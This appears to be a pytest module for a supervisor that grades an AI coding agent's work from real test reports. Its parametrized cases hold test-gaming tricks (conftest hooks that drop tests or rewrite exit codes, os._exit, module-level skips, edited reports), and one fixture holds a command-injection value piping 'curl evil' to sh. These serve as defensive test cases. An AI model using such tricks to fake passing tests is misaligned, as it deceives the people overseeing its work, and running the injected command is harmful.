"""Red-check, validate and baseline on reports that real pytest wrote, and on evidence that lies."""

import hashlib
from pathlib import Path

import pytest

from sandbox.contract.job import Check, CheckExit
from supervisor.gates.baseline import judge_baseline
from supervisor.gates.checks import judge_red, judge_validate
from supervisor.gates.evidence import CheckEvidence, Evidence, read_evidence
from supervisor.gates.spec import Criterion
from supervisor.gates.verdict import Judgement
from tests.fakes.memory_tree import MemoryTree
from tests.fakes.real_checks import TESTS, evidence_of, report_of

CRITERIA = [
    Criterion(id="REQ-001.1", requirement="REQ-001", text="Given a when b then c"),
    Criterion(id="REQ-001.2", requirement="REQ-001", text="Given d when e then f"),
    Criterion(id="REQ-002.1", requirement="REQ-002", text="Given g when h then i"),
]
BASE = {
    "app.py": "def old(): return 1\n",
    "tests/test_old.py": "import sys; sys.path.insert(0, '.')\nfrom app import old\ndef test_old(): assert old() == 1\n",
}
STUBS = BASE | {"limit.py": "def allow(n): raise NotImplementedError\ndef wait(n): ...\n"}
DONE = BASE | {"limit.py": "def allow(n): return n <= 100\ndef wait(n): return 60\n"}
NEW = {
    "tests/test_limit.py": """
        import sys
        sys.path.insert(0, ".")
        from limit import allow, wait

        def test_req_001_1_allows(): assert allow(100)
        def test_req_001_2_refuses(): assert not allow(101)
        def test_req_002_1_waits(): assert wait(101) == 60
    """
}

OLD_SUITE = """
    import pytest

    def test_red(): assert 0
    @pytest.mark.skip
    def test_skipped(): pass
    def test_green(): pass
"""


def with_test(text: str) -> dict[str, str]:
    return {"tests/test_limit.py": NEW["tests/test_limit.py"] + f"\n{' ' * 8}{text}\n"}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Evidence:
    return evidence_of(tmp_path_factory.mktemp("base"), BASE)


@pytest.fixture(scope="module")
def on_stubs(tmp_path_factory: pytest.TempPathFactory) -> Evidence:
    return evidence_of(tmp_path_factory.mktemp("stubs"), STUBS | NEW)


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Evidence:
    return evidence_of(tmp_path_factory.mktemp("done"), DONE | NEW)


def messages(said: Judgement) -> str:
    return "\n".join(each.message for each in said.findings)


# The red-check


def test_tests_that_reach_the_stubs_pass_the_red_check(base: Evidence, on_stubs: Evidence):
    """NotImplementedError and failed assertions are the right reasons."""
    said = judge_red(on_stubs, base, CRITERIA)

    assert said.verdict == "pass", messages(said)
    assert (said.tests.passed, said.tests.failed) == (1, 3)
    assert Evidence.model_validate_json(said.evidence or b"") == on_stubs


def test_the_red_check_works_without_a_baseline(on_stubs: Evidence):
    """New is then what carries a criterion."""
    assert judge_red(on_stubs, None, CRITERIA).verdict == "pass"


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("def test_req_001_3_more(): import nowhere_at_all", "is broken, not red: ModuleNotFoundError"),
        ("def test_req_001_3_more(): undefined", "is broken, not red: NameError"),
        ("def test_req_001_3_more(nowhere): pass", "is broken, not red: FixtureLookupError"),
        ("def test_req_001_3_more(): raise NotImplementedError", "is broken, not red: NotImplementedError"),
        ("import pytest\n        @pytest.mark.skip\n        def test_req_001_3_more(): pass", "is skipped or expected to fail"),
        ("import pytest\n        @pytest.mark.xfail\n        def test_req_001_3_more(): assert 0", "is skipped or expected to fail"),
        ("import nowhere_at_all", "tests.test_limit cannot be collected"),
        ("def (", "tests.test_limit cannot be collected"),
    ],
)
def test_a_test_that_is_at_fault_itself_fails_the_red_check(tmp_path: Path, base: Evidence, text: str, told: str):
    """No implementation could make it green."""
    said = judge_red(evidence_of(tmp_path, STUBS | with_test(text)), base, CRITERIA)

    assert said.verdict == "fail"
    assert told in messages(said)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("def test_more(): assert True", "green already"),
        ("def test_more(): {}['Retry-After']", "red for an unclear reason"),
        ("def test_more(): wait(1) + 1", "4 new tests are red"),
        ("def test_more(): wait(1).seconds", "4 new tests are red"),
    ],
)
def test_guards_and_unclear_reds_are_recorded(tmp_path: Path, base: Evidence, text: str, told: str):
    """They do not count for a requirement, and a person reads of them."""
    said = judge_red(evidence_of(tmp_path, STUBS | with_test(text)), base, CRITERIA)

    assert said.verdict == "pass", messages(said)
    assert told in "\n".join(said.notes)


@pytest.mark.parametrize(
    "body",
    [
        "try: allow(1)\n    except NotImplementedError as error: raise RuntimeError('wrapped') from error",
        "wait(1) + 1",
        "wait(1).seconds",
        "assert wait(1) == 60",
        "import pytest\n    with pytest.raises(ValueError): wait(-1)",
    ],
)
def test_each_right_reason_is_enough_for_a_requirement(tmp_path: Path, base: Evidence, body: str):
    """A stub reached below another exception, a None where a value was promised, a failed assertion, nothing raised."""
    text = f"import sys\nsys.path.insert(0, '.')\nfrom limit import allow, wait\ndef test_req_001_1_a():\n    {body}\n"

    said = judge_red(evidence_of(tmp_path, STUBS | {"tests/test_limit.py": text}), base, CRITERIA[:1])

    assert said.verdict == "pass", messages(said)


def test_tests_that_test_nothing_fail_for_each_requirement(tmp_path: Path, base: Evidence):
    """All green on stubs shows nothing."""
    text = "def test_req_001_1_a(): pass\ndef test_req_001_2_b(): assert True\ndef test_req_002_1_c(): {}['x']\n"

    said = judge_red(evidence_of(tmp_path, STUBS | {"tests/test_limit.py": text}), base, CRITERIA)

    assert "REQ-001: no test is red on the stubs for the right reason" in messages(said)
    assert "REQ-002: no test is red on the stubs for the right reason" in messages(said)
    assert "test_req_002_1_c: KeyError" in messages(said)


def test_a_criterion_without_a_collected_test_fails_the_red_check(tmp_path: Path, base: Evidence):
    """Text in a file is not a test that was collected."""
    text = NEW["tests/test_limit.py"].replace("def test_req_001_2", "def check_req_001_2")

    said = judge_red(evidence_of(tmp_path, STUBS | {"tests/test_limit.py": text}), base, CRITERIA)

    assert [each.message for each in said.findings] == ["REQ-001.2 has no collected test; name one `test_req_001_2_…`"]


def test_an_existing_test_that_is_gone_fails_the_red_check(tmp_path: Path, base: Evidence):
    """Only the test stage can put it back, so it is told now."""
    files = {name: text for name, text in (STUBS | NEW).items() if name != "tests/test_old.py"}

    said = judge_red(evidence_of(tmp_path, files), base, CRITERIA)

    assert "tests.test_old::test_old existed on the base commit and is gone" in messages(said)


def test_a_run_without_a_report_fails_the_red_check(base: Evidence):
    """A test that hangs on the stubs is killed, and leaves nothing."""
    hung = CheckExit(name="tests", exit_code=None, duration_s=900)

    said = judge_red(read_evidence([TESTS], [report_of(TESTS, hung, "no report at /out/tests.xml")], {}), base, CRITERIA)

    assert "was still running after 900 s" in messages(said)


# Validate


def test_finished_work_passes(base: Evidence, on_stubs: Evidence, finished: Evidence):
    """Old ids as before, every new id green, every criterion proven."""
    said = judge_validate(finished, base, on_stubs, CRITERIA)

    assert said.verdict == "pass", messages(said)
    assert (said.tests.passed, said.tests.failed, said.tests.skipped) == (4, 0, 0)


def test_one_wrong_line_fails_and_names_the_test(tmp_path: Path, base: Evidence, on_stubs: Evidence):
    """The finding is the id; its traceback is in the evidence, for the feedback."""
    files = DONE | NEW | {"limit.py": DONE["limit.py"].replace("<=", "<")}

    said = judge_validate(evidence_of(tmp_path, files), base, on_stubs, CRITERIA)

    assert "tests.test_limit::test_req_001_1_allows failed: " in messages(said)
    kept = Evidence.model_validate_json(said.evidence or b"").checks["tests"].red["tests.test_limit::test_req_001_1_allows"]
    assert "assert allow(100)" in kept.tail


@pytest.mark.parametrize(
    ("files", "told"),
    [
        ({"app.py": "def old(): return 2\n"}, "test_old failed and passed on the base commit"),
        ({"tests/test_old.py": "def test_other(): pass\n"}, "test_old existed on the base commit and was not run"),
        ({"conftest.py": "collect_ignore = ['tests/test_limit.py']\n"}, "no new test passed"),
        ({"conftest.py": "import pytest\npytestmark = 1\ndef pytest_collection_modifyitems(items): items[:] = items[:1]\n"}, "is gone"),
        ({"limit.py": "import os\nos._exit(0)\n"}, "left no evidence"),
        ({"limit.py": "import pytest\npytest.exit('bye', returncode=0)\n"}, "cannot be collected: Exit"),
        ({"limit.py": "raise SystemExit(0)\n"}, "tests"),
        ({"limit.py": "import pytest\npytest.skip('x', allow_module_level=True)\n"}, "skipped"),
        ({"limit.py": "import nowhere\n"}, "cannot be collected"),
        ({"conftest.py": "def pytest_sessionfinish(session): session.exitstatus = 7\n"}, "exit code 7 although its report is all green"),
        ({"conftest.py": "def pytest_sessionfinish(session): session.exitstatus = 3\n"}, "had an internal error"),
        ({"conftest.py": "import os\ndef pytest_unconfigure(): os.kill(os.getpid(), 9)\n"}, "killed by a signal"),
    ],
)
def test_cheats_and_regressions_fail_on_the_report(tmp_path: Path, base: Evidence, on_stubs: Evidence, files: dict[str, str], told: str):
    """Each of these ends with exit code 0 or hides what broke in plain pytest."""
    said = judge_validate(evidence_of(tmp_path, DONE | NEW | files), base, on_stubs, CRITERIA)

    assert said.verdict == "fail"
    assert told in messages(said)


@pytest.mark.parametrize("mark", ["skip", "xfail(run=False)", "skipif(True, reason='x')"])
def test_a_new_test_that_is_skipped_is_not_a_pass(tmp_path: Path, base: Evidence, on_stubs: Evidence, mark: str):
    """Exit code 0 and no failure, and still no evidence (DECISIONS G22)."""
    text = NEW["tests/test_limit.py"].replace(
        "def test_req_001_1", f"import pytest\n        @pytest.mark.{mark}\n        def test_req_001_1"
    )

    said = judge_validate(evidence_of(tmp_path, STUBS | DONE | {"tests/test_limit.py": text}), base, on_stubs, CRITERIA)

    assert said.verdict == "fail"


def test_known_red_and_skipped_tests_of_the_base_may_stay(tmp_path: Path):
    """A real suite has both; what passed has to stay passed."""
    old = {"tests/test_old.py": OLD_SUITE, "tests/test_unimportable.py": "import nowhere_at_all\n"}
    before = evidence_of(tmp_path / "base", old)

    said = judge_validate(evidence_of(tmp_path / "done", DONE | NEW | old), before, None, CRITERIA)

    assert said.verdict == "pass", messages(said)
    assert any("known red on the base commit, red still" in note for note in said.notes)


def test_a_green_test_of_the_base_that_is_red_now_fails_beside_known_red_ones(tmp_path: Path):
    """Known red tests hide no new one."""
    before = evidence_of(tmp_path / "base", {"tests/test_old.py": OLD_SUITE})
    worse = {"tests/test_old.py": OLD_SUITE.replace("def test_green(): pass", "def test_green(): assert 0")}

    said = judge_validate(evidence_of(tmp_path / "done", DONE | NEW | worse), before, None, CRITERIA)

    assert [each.message.split(":")[0] for each in said.findings] == ["tests.test_old"]


def test_without_a_baseline_every_failure_counts(tmp_path: Path):
    """`--no-baseline` means that nothing is known."""
    files = DONE | NEW | {"tests/test_old.py": "def test_red(): assert 0\n"}

    said = judge_validate(evidence_of(tmp_path, files), None, None, CRITERIA)

    assert "test_red failed" in messages(said)


def test_zero_new_tests_fail_even_if_all_is_green(base: Evidence):
    """The base commit itself is not a feature."""
    said = judge_validate(base, base, None, [])

    assert messages(said) == "no new test passed: zero new tests are no evidence for a feature"


def test_a_criterion_without_a_test_that_passed_fails(base: Evidence, on_stubs: Evidence, finished: Evidence):
    """Every criterion is proven by name."""
    more = [*CRITERIA, Criterion(id="REQ-002.2", requirement="REQ-002", text="Given x when y then z")]

    assert messages(judge_validate(finished, base, on_stubs, more)) == "REQ-002.2 has no test that passed: Given x when y then z"


def test_no_check_of_tests_at_all_fails():
    """Linters alone show nothing."""
    assert "no check ran tests" in messages(judge_validate(Evidence(), None, None, []))


# The canary, and whose report it is


def with_canary(tmp_path: Path, outcome: str, *others: str, check: Check = TESTS) -> CheckEvidence:
    """Return the evidence of a report whose canary ended as `outcome`, `gone` for one without."""
    ends = {"failed": "<failure/>", "error": "<error/>", "skipped": "<skipped/>", "passed": ""}
    canary = f'<testcase classname="andon.canary" name="test_that_must_fail[0]">{ends[outcome]}</testcase>' if outcome in ends else ""
    data = f"<testsuite>{''.join(others)}{canary}</testsuite>".encode()
    ended = CheckExit(name="tests", exit_code=0, duration_s=1)
    return read_evidence([check], [report_of(check, ended)], {"tests": data}).checks["tests"]


GREEN_CASE = '<testcase classname="tests.test_a" name="test_a"/>'
RED_CASE = '<testcase classname="tests.test_a" name="test_b"><failure/></testcase>'
UNCOLLECTED = '<testcase classname="" name="tests.test_a"><error message="collection failure"/></testcase>'


@pytest.mark.parametrize(
    ("outcome", "others", "told"),
    [
        ("failed", (GREEN_CASE,), ""),
        ("passed", (GREEN_CASE,), "a test that must fail is reported as passed"),
        ("skipped", (GREEN_CASE,), "a test that must fail is reported as skipped"),
        ("error", (GREEN_CASE,), "a test that must fail is reported as error"),
        ("gone", (GREEN_CASE,), "is not in its report"),
        ("gone", (GREEN_CASE, RED_CASE), ""),
        ("gone", (UNCOLLECTED,), ""),
        ("gone", (), ""),
    ],
)
def test_a_run_is_evidence_only_if_what_must_fail_failed(tmp_path: Path, outcome: str, others: tuple[str, ...], told: str):
    """A run that stops at its first failure does not reach it, and one without tests has none."""
    found = with_canary(tmp_path, outcome, *others)

    assert (found.problem == "") == (told == "")
    assert told in found.problem
    assert not any("canary" in id_ for id_ in [*found.outcomes, *found.red])


def test_a_check_that_owes_no_canary_is_judged_without(tmp_path: Path):
    """Another runner than pytest."""
    found = with_canary(tmp_path, "gone", GREEN_CASE, check=TESTS.model_copy(update={"canary": False}))

    assert (found.problem, found.canary) == ("", "not owed")


def test_a_report_that_was_changed_after_the_command_ended_is_none(tmp_path: Path):
    """The runner says what it was; a report the runner could not read is judged as it is."""
    data = f"<testsuite>{RED_CASE}</testsuite>".encode()
    same, other = hashlib.sha256(data).hexdigest(), hashlib.sha256(b"").hexdigest()

    problems = []
    for digest in (same, other, None):
        ended = CheckExit(name="tests", exit_code=0, duration_s=1, report_sha256=digest)
        problems.append(read_evidence([TESTS], [report_of(TESTS, ended)], {"tests": data}).checks["tests"].problem)

    assert problems == ["", "the report at /out/tests.xml was changed after the command had ended", ""]


def test_a_verdict_says_what_it_rests_on(base: Evidence, on_stubs: Evidence, finished: Evidence):
    """Sealed only if every check of tests was, and why not if that was asked for."""
    tests = finished.checks["tests"]

    def verdict(*checks: CheckEvidence) -> Judgement:
        return judge_validate(Evidence(checks={check.name: check for check in checks}), base, on_stubs, CRITERIA)

    other = tests.model_copy(update={"name": "more", "sealed": False, "why_not_sealed": "this host's kernel has no Landlock"})
    sealed = tests.model_copy(update={"sealed": True})

    assert (verdict(tests).assurance, verdict(sealed).assurance, verdict(sealed, other).assurance) == ("in-process", "sealed", "in-process")
    assert "more: judged in one process with the product, not sealed: this host's kernel has no Landlock" in verdict(sealed, other).notes


# Checks without test ids


def a_check(exit_code: int | None = 0, argv: tuple[str, ...] = ("ruff", "check", "."), tail: str = "", **more: object) -> CheckEvidence:
    return CheckEvidence.model_validate(
        {"name": "lint", "argv": argv, "report": "none", "exit_code": exit_code, "output_tail": tail} | more
    )


def lint_verdict(finished: Evidence, base: Evidence, now: CheckEvidence, before: CheckEvidence | None = None) -> Judgement:
    evidence = Evidence(checks=finished.checks | {"lint": now})
    return judge_validate(evidence, Evidence(checks=base.checks | ({"lint": before} if before else {})), None, CRITERIA)


@pytest.mark.parametrize(
    ("now", "before", "told"),
    [
        (a_check(), None, ""),
        (a_check(1, tail="E501"), None, "ended with exit code 1:\nE501"),
        (a_check(1), a_check(1), ""),
        (a_check(2), a_check(1), "exit code 2"),
        (a_check(127, tail="not started: no such file"), None, "could not be started"),
        (a_check(None), None, "still running"),
        (a_check(said=False), None, "did not end before the stage did"),
        (a_check(1, blocking=False), None, ""),
        (a_check(argv=("detect-secrets", "scan")), None, "whether or not it finds secrets"),
        (a_check(argv=("pytest", "--collect-only")), None, "runs none"),
        (a_check(argv=("bandit", "-r", "x"), tail="Code scanned:\n\tTotal lines of code: 0\n"), None, "no line of code"),
        (a_check(argv=("bandit", "-r", "x"), tail="Files skipped (1):\n"), None, "skipped files"),
        (a_check(argv=("bandit", "-q", "-r", "x")), None, "does not say how many lines"),
        (a_check(argv=("python", "-m", "bandit", "-r", "x"), tail="\tTotal lines of code: 5\n"), None, ""),
        (a_check(argv=("ruff", "check", "--exit-zero")), None, "told by --exit-zero"),
        (a_check(argv=("ruff", "format", ".")), None, "changes files instead of judging"),
        (a_check(argv=("ruff", "format", "--check", ".")), None, ""),
        (a_check(2, argv=("mypy", "x")), a_check(2, argv=("mypy", "x")), "could not look at everything"),
        (a_check(123, argv=("black", "--check", "x")), a_check(123, argv=("black", "--check", "x")), "could not look at everything"),
        (
            a_check(1, argv=("pyright",), tail="Traceback (most recent call last):\nURLError"),
            a_check(1),
            "broke instead of judging: URLError",
        ),
        (a_check(tail="warning: No Python files found under the given path(s)"), None, "found no Python file"),
        (a_check(report="sarif", problem="no report at /out/lint.sarif"), None, "left no evidence"),
        (a_check(1, report="sarif", results={"E1 a.py: x": 2}), None, "found: E1 a.py: x"),
        (a_check(0, report="sarif", results={"E1 a.py: x": 2}), None, "found: E1 a.py: x"),
        (a_check(1, report="sarif", results={"E1 a.py: x": 2}), a_check(1, report="sarif", results={"E1 a.py: x": 2}), ""),
        (a_check(1, report="sarif", results={"E1 a.py: x": 3}), a_check(1, report="sarif", results={"E1 a.py: x": 2}), "found: E1"),
        (a_check(2, report="sarif"), None, "exit code 2"),
    ],
)
def test_a_check_without_test_ids_is_judged_against_the_base_and_its_floor(
    finished: Evidence, base: Evidence, now: CheckEvidence, before: CheckEvidence | None, told: str
):
    """Only what got worse counts, and a scan of nothing is no evidence (REQUIREMENTS.md b-6)."""
    said = lint_verdict(finished, base, now, before)

    assert (said.verdict == "pass") == (not told)
    assert told in messages(said)


def test_a_check_that_does_not_block_is_a_note(finished: Evidence, base: Evidence):
    """Its failure is told, and nothing stops."""
    assert any("lint does not block" in note for note in lint_verdict(finished, base, a_check(1, blocking=False)).notes)


# The baseline


def baseline_of(tmp_path: Path, files: dict[str, str], *options: str) -> Judgement:
    return judge_baseline(evidence_of(tmp_path, files, *options), MemoryTree(files))


def test_a_green_base_passes(tmp_path: Path):
    """And what it left is kept for every later comparison."""
    said = baseline_of(tmp_path, BASE)

    assert (said.verdict, said.usage_error, said.tests.passed) == ("pass", False, 1)


@pytest.mark.parametrize(
    ("files", "told"),
    [
        ({"tests/test_a.py": "def test_a(): assert 0\ndef test_b(): pass\n"}, "1 red on the base commit, known from now on"),
        ({"README.md": "x"}, "the base commit has no tests yet"),
        ({"tests/test_a.py": "import nowhere_at_all\n", "tests/test_b.py": "def test_b(): pass\n"}, "missing in the image: nowhere_at_all"),
    ],
)
def test_a_base_that_is_not_all_green_is_known_and_passes(tmp_path: Path, files: dict[str, str], told: str):
    """Red, partly uncollectable, or without tests: a person reads it, the line goes on."""
    said = baseline_of(tmp_path, files)

    assert said.verdict == "pass", messages(said)
    assert told in "\n".join(said.notes)


def test_a_directory_of_tests_that_does_not_exist_yet_is_no_test_yet(tmp_path: Path):
    """`pytest tests` on a repository without tests ends with 4."""
    assert baseline_of(tmp_path, {"README.md": "x"}, "tests").verdict == "pass"


def test_missing_dependencies_get_files_to_paste(tmp_path: Path):
    """Exit 2 with a ready Dockerfile instead of a bill (DECISIONS G14)."""
    files = {
        "tests/test_a.py": "import flask_of_mine\n",
        "requirements.txt": "flask-of-mine>=3  # web\n-r other.txt\n# comment\nrequests[socks]==2.0\n",
        "pyproject.toml": '[project]\nname = "x"\ndependencies = ["attrs>=1"]\n[project.optional-dependencies]\ntest = ["httpx"]\n',
    }

    said = baseline_of(tmp_path, files)

    assert (said.verdict, said.usage_error) == ("fail", True)
    text = messages(said)
    assert "flask_of_mine" in text
    assert "--- .andon/Dockerfile\nFROM andon/agent\n" in text
    assert "RUN pip install --no-cache-dir 'pytest' 'flask-of-mine>=3' 'requests[socks]==2.0' 'attrs>=1' 'httpx'" in text
    assert '--- quality.toml\n[quality_checks]\ntests = "python -m pytest -q"' in text


def test_a_repository_that_declares_nothing_gets_the_missing_modules(tmp_path: Path):
    """A guess is better than an empty line."""
    assert "'pytest' 'nowhere_at_all'" in messages(baseline_of(tmp_path, {"tests/test_a.py": "import nowhere_at_all.x\n"}))


def test_a_requirement_cannot_break_out_of_the_dockerfile(tmp_path: Path):
    """What is pasted is built with network access: only plain requirements get in."""
    files = {
        "tests/test_a.py": "import nowhere_at_all\n",
        "requirements.txt": "x'; curl evil | sh; '\n$(id)\ngood==1\n--index-url http://evil\n",
    }

    text = messages(baseline_of(tmp_path, files))

    assert "'pytest' 'good==1'" in text
    assert "evil" not in text
    assert "$(" not in text


@pytest.mark.parametrize(
    ("ended", "problem", "told"),
    [
        (CheckExit(name="tests", exit_code=127, duration_s=0, output_tail="not started: python"), "no report", "is not in the image"),
        (
            CheckExit(name="tests", exit_code=1, duration_s=0, output_tail="/usr/bin/python: No module named pytest"),
            "no report",
            "is not in the image",
        ),
        (CheckExit(name="tests", exit_code=0, duration_s=0), "no report at /out/tests.xml", "have to write a JUnit report"),
        (
            CheckExit(name="tests", exit_code=4, duration_s=0, output_tail="unrecognized arguments: --cov"),
            "no report",
            "wrong command line",
        ),
        (CheckExit(name="tests", exit_code=None, duration_s=900), "no report", "still running after 900 s"),
        (None, "no report", "did not end before the stage did"),
    ],
)
def test_checks_that_cannot_run_are_the_repository_s_fault(ended: CheckExit | None, problem: str, told: str):
    """Before the first model call, with what to do."""
    said = judge_baseline(read_evidence([TESTS], [report_of(TESTS, ended, problem)], {}), MemoryTree())

    assert (said.verdict, said.usage_error) == ("fail", True)
    assert told in messages(said)


@pytest.mark.parametrize(("blocking", "verdict"), [(True, "fail"), (False, "pass")])
def test_a_missing_linter_fails_unless_it_does_not_block(blocking: bool, verdict: str):
    """It would fail at the end, after the bill."""
    lint = Check(name="lint", argv=("ruff", "check", "."), blocking=blocking)
    ended = CheckExit(name="lint", exit_code=127, duration_s=0, output_tail="not started: ruff")

    said = judge_baseline(read_evidence([lint], [report_of(lint, ended)], {}), MemoryTree())

    assert said.verdict == verdict
